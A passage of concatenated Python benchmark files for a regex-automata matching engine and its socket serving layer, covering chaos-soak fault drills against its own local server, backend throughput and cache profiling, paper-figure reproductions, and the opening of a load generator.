    ("worker_kill", None, None),   # SIGKILL from the harness, see _killer
    ("reload", None, None),
    ("recovery", None, None),
]


def _oracle(artifact, payload: bytes) -> frozenset:
    matches: set = set()
    text = payload.decode("latin-1")
    for mfsa in artifact.mfsas:
        matches |= IMfantEngine(mfsa).run(text).matches
    return frozenset(matches)


class _Window:
    """One drill window's request ledger (thread-safe by list-append)."""

    def __init__(self, name: str, oracles: set[frozenset]) -> None:
        self.name = name
        self.oracles = oracles
        self.outcomes: list[tuple[str, bool]] = []  # (status, correct)
        self.failures: list[str] = []
        self.errors: list[str] = []  # server-reported error texts

    def record(self, status: str, matches: frozenset,
               error: str | None = None) -> None:
        self.outcomes.append((status, matches in self.oracles))
        if error:
            self.errors.append(error)

    def fail(self, error: str) -> None:
        self.failures.append(error)

    def summary(self, seconds: float) -> dict:
        requests = len(self.outcomes) + len(self.failures)
        ok = sum(1 for status, _ in self.outcomes if status == "ok")
        incorrect = sum(
            1 for status, correct in self.outcomes
            if status == "ok" and not correct
        )
        statuses: dict[str, int] = {}
        for status, _ in self.outcomes:
            statuses[status] = statuses.get(status, 0) + 1
        for error in self.failures:
            statuses[error] = statuses.get(error, 0) + 1
        return {
            "drill": self.name,
            "seconds": round(seconds, 3),
            "requests": requests,
            "ok": ok,
            "failed": len(self.failures),
            "incorrect": incorrect,
            "availability": (ok / requests) if requests else 1.0,
            "statuses": statuses,
            "errors": dict(
                sorted(
                    (
                        (text, self.errors.count(text))
                        for text in set(self.errors)
                    ),
                    key=lambda item: -item[1],
                )[:3]
            ),
        }


def _traffic(address, payload: bytes, window: _Window, stop: threading.Event,
             retry: RetryPolicy) -> None:
    """One closed-loop client: hammer until the window closes, recording
    every outcome (an exhausted retry budget is an availability miss,
    not a harness crash)."""
    try:
        client = MatchClient.connect(address, retry=retry)
    except Exception as exc:  # noqa: BLE001 — ledger, then bail
        window.fail(f"connect: {exc}")
        return
    with client:
        while not stop.is_set():
            try:
                result = client.match(payload)
            except Exception as exc:  # noqa: BLE001 — counted, soak continues
                window.fail(type(exc).__name__)
                continue
            window.record(result.status, frozenset(result.matches),
                          error=result.error)


def _killer(server, stop: threading.Event, period: float) -> None:
    """SIGKILL every live shard worker process each ``period`` seconds —
    the external OOM-killer drill the supervisor must absorb."""
    while not stop.is_set():
        stop.wait(period)
        pool = server.service.pool
        executor = getattr(pool, "_executor", None)
        for process in list(getattr(executor, "_processes", {}).values()):
            try:
                process.kill()
            except Exception:  # noqa: BLE001 — racing a normal exit is fine
                pass


def _run_window(name, server, payload, oracles, *, seconds, clients, retry,
                fault=None, probability=None, kill_period=None,
                reloads=None) -> dict:
    window = _Window(name, oracles)
    stop = threading.Event()
    threads = [
        threading.Thread(
            target=_traffic, args=(server.address, payload, window, stop, retry),
            daemon=True,
        )
        for _ in range(clients)
    ]
    if kill_period is not None:
        threads.append(
            threading.Thread(target=_killer, args=(server, stop, kill_period),
                             daemon=True)
        )
    started = time.perf_counter()
    if fault is not None:
        faultinject.arm(fault, probability)
    try:
        for thread in threads:
            thread.start()
        if reloads:
            # interleave the swaps inside the traffic window
            with MatchClient.connect(server.address) as admin:
                for patterns in reloads:
                    time.sleep(seconds / (len(reloads) + 1))
                    admin.reload(patterns)
            time.sleep(seconds / (len(reloads) + 1))
        else:
            time.sleep(seconds)
    finally:
        if fault is not None:
            faultinject.disarm(fault)
        stop.set()
        for thread in threads:
            thread.join(timeout=60)
    return window.summary(time.perf_counter() - started)


def _await_ready(address, timeout: float) -> tuple[bool, float]:
    """Poll the health op until the server reports ready; returns
    (became_ready, seconds_waited)."""
    started = time.perf_counter()
    with MatchClient.connect(address, retry=RetryPolicy(max_attempts=4)) as client:
        while time.perf_counter() - started < timeout:
            if client.health().get("ready"):
                return True, time.perf_counter() - started
            time.sleep(0.1)
    return False, time.perf_counter() - started


def _hang_drill(artifact, payload: bytes, oracle: frozenset,
                deadline: float = 0.3) -> dict:
    """The watchdog drill: a dedicated process pool whose workers hang
    far past the scan deadline; the watchdog must kill them within 2x
    the budget and rescue the chunks inline, exactly."""
    faultinject.arm("serve.worker.hang", 30.0)
    try:
        with ShardPool(artifact, num_shards=2, mode="process",
                       scan_strategy="sfa") as pool:
            started = time.perf_counter()
            result = pool.scan(payload, deadline=deadline)
            elapsed = time.perf_counter() - started
            hangs = pool.supervisor.hangs_total
    finally:
        faultinject.disarm("serve.worker.hang")
    exact = frozenset(result.full_matches()) == oracle
    return {
        "drill": "worker_hang",
        "seconds": round(elapsed, 3),
        "deadline": deadline,
        "hangs_detected": hangs,
        "exact": exact,
        "partial": result.partial,
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description="Chaos-soak the serve stack: loadgen traffic + fault "
                    "drills; assert exactness and availability; emit "
                    "BENCH_resilience.json.",
    )
    parser.add_argument("--ruleset", default=DEFAULT_RULESET,
                        help="builtin ruleset name (default %(default)s)")
    parser.add_argument("--payload-bytes", type=int, default=4096, metavar="N")
    parser.add_argument("--shards", type=int, default=2, metavar="N")
    parser.add_argument("--clients", type=int, default=4, metavar="N")
    parser.add_argument("--window", type=float, default=4.0, metavar="SECONDS",
                        help="traffic seconds per drill (default 4)")
    parser.add_argument("--bench-json", type=Path, default=None, metavar="FILE",
                        help="where to write BENCH_resilience.json "
                             "(default <repo>/BENCH_resilience.json; '-' to skip)")
    parser.add_argument("--smoke", action="store_true",
                        help="short windows, fewer clients; asserts and exits "
                             "(the CI form)")
    args = parser.parse_args(argv)

    if args.smoke:
        args.window, args.clients = 1.0, 2

    retry = RetryPolicy(max_attempts=6, base_delay=0.02, max_delay=0.5)
    repo_root = Path(__file__).resolve().parent.parent
    drills: list[dict] = []

    with TemporaryDirectory() as tmp_dir:
        store = ArtifactStore(tmp_dir)
        patterns = list(load_builtin(args.ruleset).patterns)
        options = CompileOptions(emit_anml=False)
        artifact = store.get_or_compile(patterns, options)
        payload = _demo_stream(patterns, args.payload_bytes)
        oracle = _oracle(artifact, payload)
        # the reload drill swaps to a shrunk ruleset and back; precompute
        # both oracles so every mid-swap response can be judged exactly
        alt_patterns = patterns[: max(1, len(patterns) // 2)]
        alt_artifact = store.get_or_compile(alt_patterns, options)
        alt_oracle = _oracle(alt_artifact, payload)

        config = ServeConfig(
            shards=args.shards, batch_max=8, queue_depth=256,
            mode="process", metrics=True, heartbeat_interval=0.25,
        )
        server = ServerThread(artifact, config, store=store).start()
        try:
            # one warm request forks the workers before the clock starts
            with MatchClient.connect(server.address, retry=retry) as warm:
                assert frozenset(warm.match(payload).matches) == oracle
            for name, fault, probability in DRILLS:
                oracles = {oracle, alt_oracle} if name == "reload" else {oracle}
                summary = _run_window(
                    name, server, payload, oracles,
                    seconds=args.window, clients=args.clients, retry=retry,
                    fault=fault, probability=probability,
                    kill_period=(max(0.4, args.window / 5)
                                 if name == "worker_kill" else None),
                    reloads=([alt_patterns, patterns]
                             if name == "reload" else None),
                )
                if name == "worker_kill":
                    # give the supervisor room to close the breaker before
                    # judging the recovery window
                    became_ready, waited = _await_ready(server.address, timeout=30.0)
                    summary["recovered_ready"] = became_ready
                    summary["ready_after_seconds"] = round(waited, 3)
                drills.append(summary)
                print(f"[{summary['drill']}] requests={summary['requests']} "
                      f"ok={summary['ok']} failed={summary['failed']} "
                      f"incorrect={summary['incorrect']} "
                      f"availability={summary['availability']:.4f}", flush=True)
            with MatchClient.connect(server.address, retry=retry) as client:
                final_health = client.health()
                stats = client.server_stats()
        finally:
            server.stop()

        drills.append(_hang_drill(artifact, payload, oracle))
        print(f"[worker_hang] exact={drills[-1]['exact']} "
              f"hangs_detected={drills[-1]['hangs_detected']} "
              f"seconds={drills[-1]['seconds']}", flush=True)

    soak = [d for d in drills if "availability" in d]
    totals = {
        "requests": sum(d["requests"] for d in soak),
        "ok": sum(d["ok"] for d in soak),
        "failed": sum(d["failed"] for d in soak),
        "incorrect": sum(d["incorrect"] for d in soak),
    }
    totals["availability"] = (
        totals["ok"] / totals["requests"] if totals["requests"] else 1.0
    )
    recovery = next(d for d in soak if d["drill"] == "recovery")
    hang = next(d for d in drills if d["drill"] == "worker_hang")
    supervisor = stats.get("supervisor", {})

    report = {
        "benchmark": "bench_resilience",
        "generator": "benchmarks/bench_resilience.py",
        "ruleset": args.ruleset,
        "payload_bytes": args.payload_bytes,
        "shards": args.shards,
        "clients": args.clients,
        "window_seconds": args.window,
        "retry_policy": {
            "max_attempts": retry.max_attempts,
            "base_delay": retry.base_delay,
            "max_delay": retry.max_delay,
        },
        "note": "availability = ok responses / issued requests per drill "
                "window; correctness judged per response against the "
                "single-process oracle (either ruleset's oracle during the "
                "reload window); worker_kill SIGKILLs live shard workers "
                "from outside, worker_hang drives the scan watchdog on a "
                "dedicated pool",
        "drills": drills,
        "totals": totals,
        "server": {
            "final_ready": bool(final_health.get("ready")),
            "shards": stats.get("shards"),
            "requests_deduped": stats.get("requests_deduped"),
            "reload_swaps": stats.get("reload_swaps"),
            "supervisor_restarts_total": supervisor.get("restarts_total"),
            "supervisor_hangs_total": supervisor.get("hangs_total"),
            "breaker_opens_total": supervisor.get("breaker_opens_total"),
        },
        "assertions": {
            "availability_floor": AVAILABILITY_FLOOR,
            "incorrect_allowed": 0,
        },
    }

    failures: list[str] = []
    if totals["incorrect"]:
        failures.append(f"{totals['incorrect']} incorrect match set(s)")
    if totals["availability"] < AVAILABILITY_FLOOR:
        failures.append(
            f"availability {totals['availability']:.4f} < {AVAILABILITY_FLOOR}"
        )
    if recovery["availability"] < 1.0 or recovery["failed"]:
        failures.append("recovery window was not clean")
    if not report["server"]["final_ready"]:
        failures.append("server did not return to ready")
    if stats.get("shards") != args.shards:
        failures.append(f"pool ended at {stats.get('shards')} shard(s), "
                        f"wanted {args.shards}")
    if not hang["exact"]:
        failures.append("worker_hang drill lost matches")
    if hang["hangs_detected"] < 1:
        failures.append("watchdog never fired during worker_hang")

    if args.bench_json is None or str(args.bench_json) != "-":
        bench_path = args.bench_json or (repo_root / "BENCH_resilience.json")
        bench_path.write_text(json.dumps(report, indent=2) + "\n")
        print(f"wrote {bench_path}")

    if failures:
        for failure in failures:
            print(f"FAIL: {failure}", file=sys.stderr)
        return 1
    print(f"resilience soak OK: {totals['requests']} requests, "
          f"availability={totals['availability']:.4f}, zero incorrect")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
