"""Lazy-DFA configuration-cache benchmark: python vs numpy vs lazy vs dense.

Measures per-builtin-ruleset scan throughput of the four iMFAnt
backends (``merging_factor=0``, i.e. one MFSA per ruleset) on a
deterministic stream that mixes ruleset literal material with noise
(the same generator ``repro obs`` demos with), plus the lazy backend's
cache profile: hit rate, distinct configurations, evictions/flushes.

The lazy backend is measured **warm** (one priming pass before timing) —
the steady state a long-lived DPI process operates in — and also cold,
so the memoization cost is visible.  The dense backend is measured with
its compiled tier force-promoted after the same warm-up (see
``benchmarks/bench_dense.py`` for the dedicated dense sweep and stream
ablations).  Correctness is asserted inline: all four backends must
produce identical match sets on every ruleset.

Two entry points:

* ``PYTHONPATH=src python benchmarks/bench_lazy_cache.py`` — full sweep,
  writes ``BENCH_lazy.json`` (the committed results) and prints a table;
* ``pytest benchmarks/bench_lazy_cache.py --benchmark-only`` — the
  pytest-benchmark spelling for one ruleset per backend.

Environment: ``REPRO_BENCH_LAZY_STREAM`` overrides the stream size
(default 32768 bytes), ``REPRO_BENCH_LAZY_REPEATS`` the timing repeats.
"""

from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path

import pytest

from repro.cli import _demo_stream
from repro.datasets import list_builtin, load_builtin
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset

STREAM_SIZE = int(os.environ.get("REPRO_BENCH_LAZY_STREAM", str(1 << 15)))
REPEATS = int(os.environ.get("REPRO_BENCH_LAZY_REPEATS", "3"))
BACKENDS = ("python", "numpy", "lazy", "dense")


def _best_wall_seconds(engine: IMfantEngine, stream: bytes, repeats: int = REPEATS) -> float:
    best = float("inf")
    for _ in range(repeats):
        started = time.perf_counter()
        engine.run(stream, collect_stats=False)
        best = min(best, time.perf_counter() - started)
    return best


def bench_ruleset(name: str, stream_size: int = STREAM_SIZE) -> dict:
    """One ruleset's full comparison; raises if the backends disagree."""
    patterns = list(load_builtin(name).patterns)
    compiled = compile_ruleset(patterns, CompileOptions(merging_factor=0, emit_anml=False))
    assert len(compiled.mfsas) == 1  # M = all
    mfsa = compiled.mfsas[0]
    stream = _demo_stream(patterns, stream_size)

    engines = {backend: IMfantEngine(mfsa, backend=backend) for backend in BACKENDS}
    match_sets = {b: engine.run(stream, collect_stats=False).matches
                  for b, engine in engines.items()}
    assert all(match_sets[b] == match_sets["python"] for b in BACKENDS), name
    assert engines["dense"].promote_dense(force=True)  # timed with the tier live

    lazy_engine = engines["lazy"]
    cold = lazy_engine.lazy_cache.stats
    cold_profile = cold.as_dict()  # the correctness pass doubled as the cold pass

    seconds = {b: _best_wall_seconds(engines[b], stream) for b in BACKENDS}
    warm = lazy_engine.lazy_cache.stats
    row = {
        "ruleset": name,
        "rules": len(patterns),
        "mfsa_states": mfsa.num_states,
        "stream_bytes": len(stream),
        "matches": len(match_sets["python"]),
        "seconds": seconds,
        "throughput_mb_s": {
            b: len(stream) / seconds[b] / 1e6 for b in BACKENDS
        },
        "speedup_vs_python": {
            "numpy": seconds["python"] / seconds["numpy"],
            "lazy": seconds["python"] / seconds["lazy"],
            "dense": seconds["python"] / seconds["dense"],
        },
        "lazy_cache": {
            "cold_pass": cold_profile,
            "cumulative_hit_rate": warm.hit_rate,
            "distinct_configs": lazy_engine.lazy_cache.num_configs,
            "evictions": warm.evictions,
            "flushes": warm.flushes,
            "entries": len(lazy_engine.lazy_cache.transitions),
            "capacity": lazy_engine.lazy_cache.max_entries,
        },
    }
    return row


def run_sweep(stream_size: int = STREAM_SIZE) -> dict:
    rows = [bench_ruleset(name, stream_size) for name in list_builtin()]
    return {
        "benchmark": "bench_lazy_cache",
        "stream_bytes": stream_size,
        "repeats": REPEATS,
        "backends": list(BACKENDS),
        "note": "lazy backend timed warm (cache primed by the correctness pass); "
                "dense timed with its tier force-promoted after the same warm-up; "
                "cold_pass records the priming pass's hit/miss profile",
        "results": rows,
        "summary": {
            "max_lazy_speedup_vs_python": max(r["speedup_vs_python"]["lazy"] for r in rows),
            "min_lazy_speedup_vs_python": min(r["speedup_vs_python"]["lazy"] for r in rows),
            "max_dense_speedup_vs_python": max(r["speedup_vs_python"]["dense"] for r in rows),
            "min_dense_speedup_vs_python": min(r["speedup_vs_python"]["dense"] for r in rows),
            "all_match_sets_identical": True,  # asserted per ruleset
        },
    }


def main(argv: list[str] | None = None) -> int:
    out = Path(argv[0]) if argv else Path(__file__).resolve().parent.parent / "BENCH_lazy.json"
    report = run_sweep()
    out.write_text(json.dumps(report, indent=2) + "\n")
    header = (f"{'ruleset':20s} {'python':>10s} {'numpy':>10s} {'lazy':>10s} "
              f"{'dense':>10s} {'dense-spd':>10s} {'hit rate':>9s} {'configs':>8s}")
    print(header)
    for row in report["results"]:
        mb = row["throughput_mb_s"]
        print(f"{row['ruleset']:20s} {mb['python']:8.2f}MB {mb['numpy']:8.2f}MB "
              f"{mb['lazy']:8.2f}MB {mb['dense']:8.2f}MB "
              f"{row['speedup_vs_python']['dense']:9.2f}x "
              f"{row['lazy_cache']['cumulative_hit_rate']:9.3f} "
              f"{row['lazy_cache']['distinct_configs']:8d}")
    print(f"\nwrote {out}")
    return 0


# -- pytest-benchmark spelling ----------------------------------------------


@pytest.mark.parametrize("backend", BACKENDS)
def test_lazy_cache_throughput(benchmark, backend):
    patterns = list(load_builtin("log_patterns").patterns)
    compiled = compile_ruleset(patterns, CompileOptions(merging_factor=0, emit_anml=False))
    engine = IMfantEngine(compiled.mfsas[0], backend=backend)
    stream = _demo_stream(patterns, STREAM_SIZE)
    engine.run(stream, collect_stats=False)  # warm (tables + lazy cache)
    if backend == "dense":
        assert engine.promote_dense(force=True)
    result = benchmark(lambda: engine.run(stream, collect_stats=False))
    reference = IMfantEngine(compiled.mfsas[0], backend="python").run(stream).matches
    assert result.matches == reference


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
