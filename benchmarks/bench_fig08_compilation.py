"""Fig. 8 — per-stage compilation time vs merging factor.

Paper: FE / AST→FSA / single-FSA optimisation are independent of M
(1.29 / 1.33 / 2.03 ms on average), while the merging stage dominates
and grows with M (6.65 s at M=all on the full suites).  The bench times
one full compilation sweep and prints the stage breakdown.
"""

from conftest import m_label
from repro.reporting.experiments import experiment_compilation_time
from repro.reporting.tables import format_table

STAGES = ("FE", "AST to FSA", "ME-single", "ME-merging", "BE")


def test_fig8_compilation_stages(benchmark, config):
    data = benchmark.pedantic(
        lambda: experiment_compilation_time(config, repetitions=2), rounds=1, iterations=1
    )

    for abbr, per_m in data.items():
        print()
        print(format_table(
            ("M", *(f"{s} (ms)" for s in STAGES), "total (ms)"),
            [
                (m_label(m), *(f"{stages[s] * 1e3:.2f}" for s in STAGES),
                 f"{sum(stages.values()) * 1e3:.2f}")
                for m, stages in per_m.items()
            ],
            title=f"Fig. 8 (reproduced) — {abbr}",
        ))

    for abbr, per_m in data.items():
        factors = [m for m in per_m if m != 0]
        # per-RE stages are independent of M: compare extreme factors
        lo, hi = per_m[min(factors)], per_m[0]
        for stage in ("FE", "AST to FSA"):
            assert hi[stage] < 5 * lo[stage] + 1e-3, (abbr, stage)
        # the merging stage grows toward M=all and dominates the front end
        assert hi["ME-merging"] >= lo["ME-merging"]
        assert hi["ME-merging"] > hi["FE"]
