"""Fig. 7 — state/transition compression vs merging factor M.

Paper: compression grows with M and plateaus, averaging 71.95 % states /
38.88 % transitions at M=all, with states always compressed more than
transitions.  The bench times the full merging sweep and prints both
panels of the figure.
"""

from conftest import m_label
from repro.reporting.experiments import experiment_compression
from repro.reporting.tables import format_table


def test_fig7_compression(benchmark, config):
    data = benchmark.pedantic(
        lambda: experiment_compression(config), rounds=1, iterations=1
    )

    factors = sorted({m for per_m in data.values() for m in per_m}, key=lambda m: (m == 0, m))
    for metric, index in (("states", 0), ("transitions", 1)):
        print()
        print(format_table(
            ("Dataset", *(f"M={m_label(m)}" for m in factors)),
            [
                (abbr, *(f"{per_m[m][index]:.1f}%" if m in per_m else "-" for m in factors))
                for abbr, per_m in data.items()
            ],
            title=f"Fig. 7 (reproduced) — {metric} compression",
        ))

    for abbr, per_m in data.items():
        # monotone growth to the plateau at M=all
        series = [per_m[m][0] for m in factors if m in per_m]
        assert series == sorted(series), (abbr, series)
        state_all, trans_all = per_m[0]
        # the paper's headline: significant compression at M=all, with
        # states compressed more than transitions
        assert state_all > 40.0, (abbr, state_all)
        assert state_all > trans_all


def test_fig7_average_matches_paper_band(benchmark, config):
    """The cross-suite M=all average lands near the paper's 71.95 %/38.88 %."""
    data = benchmark.pedantic(
        lambda: experiment_compression(config), rounds=1, iterations=1
    )
    state_avg = sum(per_m[0][0] for per_m in data.values()) / len(data)
    trans_avg = sum(per_m[0][1] for per_m in data.values()) / len(data)
    print(f"\nM=all averages: states {state_avg:.2f}% (paper 71.95%), "
          f"transitions {trans_avg:.2f}% (paper 38.88%)")
    assert 55.0 <= state_avg <= 95.0
    assert 30.0 <= trans_avg <= 75.0
