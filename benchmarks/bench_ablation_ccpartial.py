"""Ablation — partial character-class merging (the paper's §VI-A outlook).

The paper merges CCs only when their member sets are identical and names
partial merging ("in [abce] and [bcd] merge the common [bc] only") as the
path past the compression plateau.  This bench compares the default
exact-set merging with the opt-in alphabet-stratification pass on the
CC-heavy suites, asserting identical matches and reporting the state/
transition trade-off.
"""

from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset
from repro.reporting.experiments import dataset_bundle
from repro.reporting.tables import format_table


def _compile_both(bundle):
    plain = compile_ruleset(bundle.ruleset.patterns,
                            CompileOptions(merging_factor=0, emit_anml=False))
    strat = compile_ruleset(
        bundle.ruleset.patterns,
        CompileOptions(merging_factor=0, emit_anml=False, stratify_charclasses=True),
    )
    return plain, strat


def test_partial_cc_merging_tradeoff(benchmark, config):
    bundles = {abbr: dataset_bundle(abbr, config) for abbr in ("PRO", "RG1", "PEN")}
    results = benchmark.pedantic(
        lambda: {abbr: _compile_both(b) for abbr, b in bundles.items()},
        rounds=1, iterations=1,
    )

    rows = []
    for abbr, (plain, strat) in results.items():
        rows.append((
            abbr,
            plain.total_output_states, strat.total_output_states,
            plain.merge_report.output_transitions, strat.merge_report.output_transitions,
        ))
        # soundness: identical matches on the suite's stream
        stream = bundles[abbr].stream
        plain_matches = set()
        for mfsa in plain.mfsas:
            plain_matches |= IMfantEngine(mfsa).run(stream, collect_stats=False).matches
        strat_matches = set()
        for mfsa in strat.mfsas:
            strat_matches |= IMfantEngine(mfsa).run(stream, collect_stats=False).matches
        assert plain_matches == strat_matches, abbr

    print()
    print(format_table(
        ("Dataset", "states exact", "states partial", "trans exact", "trans partial"),
        rows,
        title="Ablation — exact vs partial CC merging (M=all)",
    ))

    # partial merging buys states on at least one CC-heavy suite
    assert any(strat_states <= plain_states for _, plain_states, strat_states, _, _ in rows)
