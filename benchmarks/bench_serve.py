"""Serving-path benchmark: batched throughput through the socket front door.

Measures the resident matching service end to end — client sockets,
length-prefixed frames, the bounded queue, batch coalescing and the
shard pool — against the same payloads scanned single-process, so the
serving overhead and the shard-parallel payoff are both visible:

* requests/second and payload MB/s for several ``(shards, clients)``
  configurations (concurrent clients make batch coalescing real: the
  dispatcher drains whatever queued while the previous batch ran);
* the single-process single-shot baseline on identical payloads;
* correctness asserted inline: every served response must equal the
  single-process oracle match set.

Two entry points:

* ``PYTHONPATH=src python benchmarks/bench_serve.py`` — full sweep,
  writes ``BENCH_serve.json`` and prints a table;
* ``pytest benchmarks/bench_serve.py --benchmark-only`` — the
  pytest-benchmark spelling for one configuration.

Environment: ``REPRO_BENCH_SERVE_PAYLOAD`` payload bytes (default
16384), ``REPRO_BENCH_SERVE_REQUESTS`` requests per configuration
(default 64).
"""

from __future__ import annotations

import json
import os
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest

from repro.cli import _demo_stream
from repro.datasets import load_builtin
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions
from repro.serve import ArtifactStore, MatchClient, ServeConfig, ServerThread

PAYLOAD_BYTES = int(os.environ.get("REPRO_BENCH_SERVE_PAYLOAD", str(1 << 14)))
REQUESTS = int(os.environ.get("REPRO_BENCH_SERVE_REQUESTS", "64"))
RULESET = "tokens_exact"  # bounded match width → the pool really shards

#: (shards, concurrent clients) sweep
CONFIGURATIONS = ((1, 1), (2, 4), (4, 8))


def _materials(tmp_dir: str):
    patterns = list(load_builtin(RULESET).patterns)
    artifact = ArtifactStore(tmp_dir).get_or_compile(
        patterns, CompileOptions(emit_anml=False)
    )
    payload = _demo_stream(patterns, PAYLOAD_BYTES)
    oracle = set()
    for mfsa in artifact.mfsas:
        oracle |= IMfantEngine(mfsa).run(payload.decode("latin-1")).matches
    return artifact, payload, oracle


def _single_process_baseline(artifact, payload: bytes, repeats: int = 3) -> float:
    engines = [IMfantEngine(mfsa) for mfsa in artifact.mfsas]
    text = payload.decode("latin-1")
    best = float("inf")
    for _ in range(repeats):
        started = time.perf_counter()
        for engine in engines:
            engine.run(text, collect_stats=False)
        best = min(best, time.perf_counter() - started)
    return best


def _percentile(ordered: list[float], q: float) -> float:
    """Nearest-rank percentile of an already-sorted list."""
    index = min(int(q * len(ordered)), len(ordered) - 1)
    return ordered[index]


def bench_configuration(artifact, payload, oracle, shards, clients, requests=REQUESTS):
    """Throughput of one (shards, clients) point; asserts correctness."""
    config = ServeConfig(shards=shards, batch_max=8, queue_depth=max(64, requests))
    per_client = requests // clients

    def worker(address):
        latencies = []
        with MatchClient.connect(address) as client:
            for _ in range(per_client):
                sent = time.perf_counter()
                result = client.match(payload)
                latencies.append(time.perf_counter() - sent)
                assert result.ok, result.error
                assert result.matches == oracle
        return latencies

    with ServerThread(artifact, config) as address:
        started = time.perf_counter()
        with ThreadPoolExecutor(max_workers=clients) as executor:
            per_worker = list(executor.map(worker, [address] * clients))
        elapsed = time.perf_counter() - started
    latencies = sorted(sec for worker_latencies in per_worker for sec in worker_latencies)
    completed = len(latencies)
    return {
        "shards": shards,
        "clients": clients,
        "requests": completed,
        "seconds": elapsed,
        "requests_per_second": completed / elapsed,
        "payload_mb_per_second": completed * len(payload) / elapsed / 1e6,
        "latency_ms": {
            "p50": _percentile(latencies, 0.50) * 1e3,
            "p95": _percentile(latencies, 0.95) * 1e3,
            "p99": _percentile(latencies, 0.99) * 1e3,
        },
    }


def run_sweep() -> dict:
    with TemporaryDirectory() as tmp_dir:
        artifact, payload, oracle = _materials(tmp_dir)
        baseline_seconds = _single_process_baseline(artifact, payload)
        rows = [
            bench_configuration(artifact, payload, oracle, shards, clients)
            for shards, clients in CONFIGURATIONS
        ]
    return {
        "benchmark": "bench_serve",
        "ruleset": RULESET,
        "payload_bytes": len(payload),
        "requests_per_configuration": REQUESTS,
        "single_process_scan_seconds": baseline_seconds,
        "single_process_mb_per_second": len(payload) / baseline_seconds / 1e6,
        "note": "served throughput includes sockets, framing, queueing and "
                "batch coalescing; correctness asserted per response",
        "results": rows,
    }


def main(argv: list[str] | None = None) -> int:
    out = Path(argv[0]) if argv else Path(__file__).resolve().parent.parent / "BENCH_serve.json"
    report = run_sweep()
    out.write_text(json.dumps(report, indent=2) + "\n")
    print(f"{'shards':>7s} {'clients':>8s} {'req/s':>10s} {'MB/s':>10s} "
          f"{'p50 ms':>9s} {'p95 ms':>9s} {'p99 ms':>9s}")
    for row in report["results"]:
        lat = row["latency_ms"]
        print(f"{row['shards']:7d} {row['clients']:8d} "
              f"{row['requests_per_second']:10.1f} {row['payload_mb_per_second']:10.2f} "
              f"{lat['p50']:9.2f} {lat['p95']:9.2f} {lat['p99']:9.2f}")
    print(f"single-process baseline: {report['single_process_mb_per_second']:.2f} MB/s")
    print(f"\nwrote {out}")
    return 0


# -- pytest-benchmark spelling ----------------------------------------------


@pytest.mark.serve
def test_serve_round_trip_throughput(benchmark, tmp_path):
    artifact, payload, oracle = _materials(str(tmp_path))
    config = ServeConfig(shards=2, batch_max=8, queue_depth=64)
    with ServerThread(artifact, config) as address:
        with MatchClient.connect(address) as client:
            result = benchmark(lambda: client.match(payload))
    assert result.matches == oracle


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
