"""Table I — dataset characteristics (#REs, states, transitions, CCs).

Paper values at full scale: 217–300 REs per suite, total states 2.8k–13k,
avg states 12–43 with DS9/RG1 the largest and BRO/PRO the smallest.  The
bench times ruleset generation + single-FSA compilation and prints the
reproduced table.
"""

from repro.reporting.experiments import experiment_dataset_stats
from repro.reporting.tables import format_table


def test_table1_dataset_characteristics(benchmark, config):
    stats = benchmark.pedantic(
        lambda: experiment_dataset_stats(config), rounds=1, iterations=1
    )

    print()
    print(format_table(
        ("Dataset", "#REs", "Tot. states", "Tot. trans", "Tot. CC len", "Avg states", "Avg trans"),
        [
            (abbr, int(s["num_res"]), int(s["total_states"]), int(s["total_transitions"]),
             int(s["total_cc_length"]), f"{s['avg_states']:.2f}", f"{s['avg_transitions']:.2f}")
            for abbr, s in stats.items()
        ],
        title=f"Table I (reproduced at 1/{config.scale} scale)",
    ))

    # Shape assertions mirroring the paper's Table I ordering.
    avg = {abbr: s["avg_states"] for abbr, s in stats.items()}
    assert avg["DS9"] > avg["BRO"] and avg["RG1"] > avg["PRO"]
    assert all(5 < v < 80 for v in avg.values())
    # CC-heavy suites (PRO, RG1) carry far more CC mass than TCP.
    assert stats["PRO"]["total_cc_length"] > stats["TCP"]["total_cc_length"]
    assert stats["RG1"]["total_cc_length"] > stats["TCP"]["total_cc_length"]
