"""Load-generation + analysis harness for the serve stack.

Sweeps ``clients x shards x payload sizes`` against a freshly started
:class:`~repro.serve.server.ServerThread`, with warmup, and records
*per-request* latency — the measurement foundation ROADMAP item 1 needs
before any transport work can be judged:

* **closed-loop** arrival (default): each client issues its next request
  the moment the previous one completes — measures capacity;
* **open-loop** arrival (``--arrival open --rate R``): each client fires
  on a fixed schedule of R req/s and latency is measured from the
  *scheduled* send time, so server queueing delay is charged honestly
  (the coordinated-omission-free form);
* per-configuration p50/p90/p95/p99 latency, throughput, and the
  server's own phase decomposition (queue-wait/scan percentiles pulled
  over the ``stats`` op);
* CSV + ASCII saturation plots (requests/s and p95 vs client count, one
  series per shard count — matplotlib is deliberately not a dependency),
  and a regenerated ``BENCH_serve.json`` carrying ``latency_ms``
  percentiles per configuration next to the historical throughput
  fields.

Examples::

    PYTHONPATH=src python benchmarks/loadgen.py                  # full sweep
    PYTHONPATH=src python benchmarks/loadgen.py --smoke          # CI smoke
    PYTHONPATH=src python benchmarks/loadgen.py --arrival open --rate 50

The smoke form runs a seconds-long sweep into a temp directory and
asserts the percentile fields exist — wired into CI as
``make loadgen-smoke``.
"""

from __future__ import annotations

import argparse
import csv
import json
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from tempfile import TemporaryDirectory

from repro.cli import _demo_stream
from repro.datasets import load_builtin
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions
from repro.reporting.plots import line_chart
from repro.serve import ArtifactStore, MatchClient, ServeConfig, ServerThread

DEFAULT_RULESET = "tokens_exact"  # bounded match width -> the pool really shards

QUANTILES = (("p50", 0.50), ("p90", 0.90), ("p95", 0.95), ("p99", 0.99))

CSV_COLUMNS = [
    "arrival", "mode", "payload_bytes", "shards", "clients", "requests",
    "seconds", "requests_per_second", "payload_mb_per_second",
